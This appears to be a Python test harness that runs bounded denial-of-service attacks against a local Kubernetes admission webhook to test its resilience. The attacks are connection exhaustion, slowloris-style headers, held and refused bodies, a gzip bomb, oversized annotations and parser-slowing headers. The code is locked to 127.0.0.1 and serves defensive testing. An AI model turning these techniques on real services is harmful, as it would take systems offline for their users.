"""Attacks on the webhook, each a bounded program: ``python attacks.py NAME PORT SOURCE SECONDS``.

They talk to 127.0.0.1 only, from the source address that is named, and end by themselves.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
import os
import resource
import socket
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import cast

import uvloop
from bodies import GOOD, LINE, MIB, WRONG, custom, dear, request, structures, with_annotations

HOST = "127.0.0.1"

_CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
_CONTEXT.check_hostname, _CONTEXT.verify_mode = False, ssl.CERT_NONE


@dataclass(frozen=True)
class Target:
    """Where to, from where, and until when in the event loop's clock."""

    port: int
    source: str
    end: float

    @property
    def goes_on(self) -> bool:
        return asyncio.get_running_loop().time() < self.end

    async def connect(self, *, tls: bool = True) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        context = _CONTEXT if tls else None
        return await asyncio.open_connection(HOST, self.port, ssl=context, local_addr=(self.source, 0))

    async def until_the_end(self) -> None:
        await asyncio.sleep(max(0.0, self.end - asyncio.get_running_loop().time()))


async def _answer(reader: asyncio.StreamReader) -> None:
    """Read one answer."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("ascii").lower().splitlines()
    length = next(int(line.partition(":")[2]) for line in lines if line.startswith("content-length:"))
    await reader.readexactly(length)


async def _many(number: int, attack: Callable[[], Awaitable[None]]) -> None:
    """Do the same so often at once; what the server does about it does not end the attack."""

    async def alone() -> None:
        with suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError, TimeoutError):
            await attack()

    await asyncio.gather(*(alone() for _ in range(number)))


async def silent(target: Target) -> None:
    """Open 4,100 connections and say nothing; whatever is closed is opened again."""
    sockets: list[socket.socket] = []
    for _ in range(4100):
        connection = socket.socket()
        connection.bind((target.source, 0))
        connection.setblocking(False)
        with suppress(BlockingIOError, OSError):
            connection.connect((HOST, target.port))
        sockets.append(connection)
        if len(sockets) % 100 == 0:
            await asyncio.sleep(0.05)
    await target.until_the_end()


async def half_handshakes(target: Target) -> None:
    """Send the first words of TLS and no more, again and again."""
    outgoing = ssl.MemoryBIO()
    client = _CONTEXT.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="webhook")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()

    async def begin() -> None:
        while target.goes_on:
            _, writer = await target.connect(tls=False)
            writer.write(hello)
            await asyncio.sleep(0.5)
            writer.transport.abort()

    await _many(100, begin)


async def held_bodies(target: Target) -> None:
    """Send 30 bodies of 10 MiB but for their last bytes."""
    body = b" " * (10 * MIB)

    async def hold() -> None:
        while target.goes_on:
            reader, writer = await target.connect()
            with suppress(OSError, TimeoutError):
                writer.write(request(body[:-1], len(body)))
                await writer.drain()
                # Until the server closes it.
                async with asyncio.timeout_at(target.end):
                    await reader.read()
            writer.transport.abort()
            await asyncio.sleep(0.2)

    await _many(30, hold)


async def slow_heads(target: Target) -> None:
    """Send 1,000 heads, a line now and then."""

    async def drip() -> None:
        _, writer = await target.connect()
        writer.write(LINE)
        for number in itertools.count():
            if not target.goes_on or writer.transport.is_closing():
                return
            writer.write(b"X-%d: y\r\n" % number)
            await asyncio.sleep(0.3)

    await _many(1000, drip)


async def idle(target: Target) -> None:
    """Send one good review on each of 1,000 connections, and keep all of them."""

    async def stay() -> None:
        reader, writer = await target.connect()
        writer.write(request(GOOD))
        await _answer(reader)
        await target.until_the_end()

    for _ in range(10):
        if not target.goes_on:
            return
        keep = [asyncio.ensure_future(_many(1, stay)) for _ in range(100)]
        await asyncio.sleep(0.3)
    await target.until_the_end()
    await asyncio.gather(*keep)


async def tiny_chunks(target: Target) -> None:
    """Send chunks of one byte without end, with long extensions, after a refusal too."""
    chunks = b"1;%b\r\n \r\n" % (b"x" * 500) + b"1\r\n \r\n" * 10_000

    async def send() -> None:
        while target.goes_on:
            _, writer = await target.connect()
            with suppress(OSError):
                writer.write(LINE + b"Transfer-Encoding: chunked\r\n\r\n")
                while not writer.transport.is_closing() and target.goes_on:
                    writer.write(chunks)
                    await writer.drain()
            writer.transport.abort()

    await _many(8, send)


async def gzip_bombs(target: Target) -> None:
    """Send bodies of 305 KB that would be 300 MB."""
    bomb = gzip.compress(b" " * (300 * MIB))

    async def send() -> None:
        while target.goes_on:
            reader, writer = await target.connect()
            with suppress(OSError, asyncio.IncompleteReadError):
                writer.write(request(bomb, extra=b"Content-Encoding: gzip\r\n"))
                await _answer(reader)
            writer.transport.abort()

    await _many(8, send)


async def refused_bodies(target: Target) -> None:
    """Announce more than is read, and send it on after the refusal."""

    async def send() -> None:
        while target.goes_on:
            _, writer = await target.connect()
            with suppress(OSError):
                writer.write(request(b"", 1000 * MIB))
                while not writer.transport.is_closing() and target.goes_on:
                    writer.write(b" " * MIB)
                    await writer.drain()
            writer.transport.abort()

    await _many(8, send)


async def _reviews(
    target: Target, body: bytes, connections: int, *, first: bytes = b"", anew: bool = False
) -> None:
    text = request(body)

    async def send() -> None:
        while target.goes_on:
            reader, writer = await target.connect()
            with suppress(OSError, asyncio.IncompleteReadError):
                if first:
                    writer.write(request(first))
                    await _answer(reader)
                while target.goes_on:
                    writer.write(text)
                    await _answer(reader)
                    if anew:
                        break
            writer.transport.abort()

    await _many(connections, send)


async def dear_pods(target: Target) -> None:
    """Send the dearest Pod on eight connections."""
    await _reviews(target, dear(), 8)


async def dear_pods_behind_a_good_review(target: Target) -> None:
    """Send a good review first on each of 100 connections, and then the dearest Pod."""
    await _reviews(target, dear(), 100, first=GOOD)


async def dear_pods_on_new_connections(target: Target) -> None:
    """Send the dearest Pod on a new connection each time."""
    await _reviews(target, dear(), 50, anew=True)


async def long_annotations(target: Target) -> None:
    """Send 10 MiB of annotations on four connections."""
    body = with_annotations({"linkerd.io/x": "y" * (10 * MIB - 10_000)})
    await _reviews(target, body, 4)


async def long_ways(target: Target) -> None:
    """Send custom resources whose patch would repeat a long name for each template."""
    template = {"template": {"metadata": {"annotations": {WRONG: True}}, "spec": {"containers": []}}}
    await _reviews(target, custom({"k" * 300_000: [template] * 95}), 4)


async def unread_answers(target: Target) -> None:
    """Ask for long answers on 300 connections, and read none."""
    body = request(with_annotations({f"{WRONG}-{'x' * 230}{number}": "maybe" for number in range(199)}))

    async def ask() -> None:
        _, writer = await target.connect()
        with suppress(OSError):
            for _ in range(50):
                writer.write(body)
            cast("asyncio.Transport", writer.transport).pause_reading()
            await target.until_the_end()
        writer.transport.abort()

    await _many(300, ask)


async def idle_behind_long_bodies(target: Target) -> None:
    """Send one long good review on each of 400 connections, and keep all of them."""
    text = request(b" " * 400_000 + GOOD)

    async def stay() -> None:
        reader, writer = await target.connect()
        writer.write(text)
        await _answer(reader)
        await target.until_the_end()

    await _many(400, stay)


async def dear_heads(target: Target) -> None:
    """Send heads that a parser of media types works on for a third of a second."""
    numbers = itertools.count()

    async def send() -> None:
        while target.goes_on:
            reader, writer = await target.connect()
            with suppress(OSError, asyncio.IncompleteReadError):
                media_type = b"application/json;x%d=%b" % (next(numbers), b";" * 8000)
                head = LINE.replace(b"application/json", media_type)
                writer.write(head + b"Content-Length: %d\r\n\r\n" % len(GOOD) + GOOD)
                await _answer(reader)
            writer.transport.abort()

    await _many(8, send)


async def first_bytes(target: Target) -> None:
    """Open connections from many addresses, and send the first byte of TLS on each."""
    sources = [target.source, *(f"127.0.3.{number}" for number in range(1, 10))]

    async def begin(source: str) -> None:
        while target.goes_on:
            _, writer = await asyncio.open_connection(HOST, target.port, local_addr=(source, 0))
            writer.write(b"\x16")
            await asyncio.sleep(0.2)
            writer.transport.abort()

    async def all_of(source: str) -> None:
        await _many(100, lambda: begin(source))

    await asyncio.gather(*map(all_of, sources))


async def many_reviews(target: Target) -> None:
    """Send good reviews as fast as they are answered, on 50 connections."""
    await _reviews(target, GOOD, 50)


async def all_structures(target: Target) -> None:
    """Send every body that is full of structure, one after the other, twice at once."""
    bodies = [request(body) for body in structures().values()]

    async def send() -> None:
        for text in itertools.cycle(bodies):
            if not target.goes_on:
                return
            reader, writer = await target.connect()
            with suppress(OSError, asyncio.IncompleteReadError):
                writer.write(text)
                await _answer(reader)
            writer.transport.abort()

    await _many(2, send)


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        silent,
        half_handshakes,
        held_bodies,
        slow_heads,
        idle,
        tiny_chunks,
        gzip_bombs,
        refused_bodies,
        dear_pods,
        dear_pods_behind_a_good_review,
        dear_pods_on_new_connections,
        long_annotations,
        long_ways,
        unread_answers,
        idle_behind_long_bodies,
        dear_heads,
        first_bytes,
        many_reviews,
        all_structures,
    )
}


async def _main(name: str, port: str, source: str, seconds: str) -> None:
    end = asyncio.get_running_loop().time() + float(seconds)
    print("attacking", flush=True)
    with suppress(TimeoutError):
        # A connection that the server does not accept would never end by itself.
        async with asyncio.timeout(float(seconds) + 2):
            await ATTACKS[name](Target(int(port), source, end))


if __name__ == "__main__":
    # An attacker is on another machine, and does not take the honest client's processor away.
    os.nice(5)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20_000), hard))
    uvloop.run(_main(*sys.argv[1:5]))
